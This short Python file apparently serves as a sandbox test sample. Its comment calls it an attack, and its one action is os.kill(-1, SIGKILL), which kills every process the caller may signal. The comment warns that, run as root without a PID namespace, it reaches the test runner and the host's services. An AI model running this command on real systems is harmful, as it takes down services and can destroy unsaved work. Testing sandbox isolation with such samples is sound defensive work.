# attack: SIGKILL every process it may signal: os.kill(-1, 9). As root without a PID namespace this
# reaches the test runner and the machine's services; it must only run inside a confined sandbox.
import os
import signal

os.kill(-1, signal.SIGKILL)
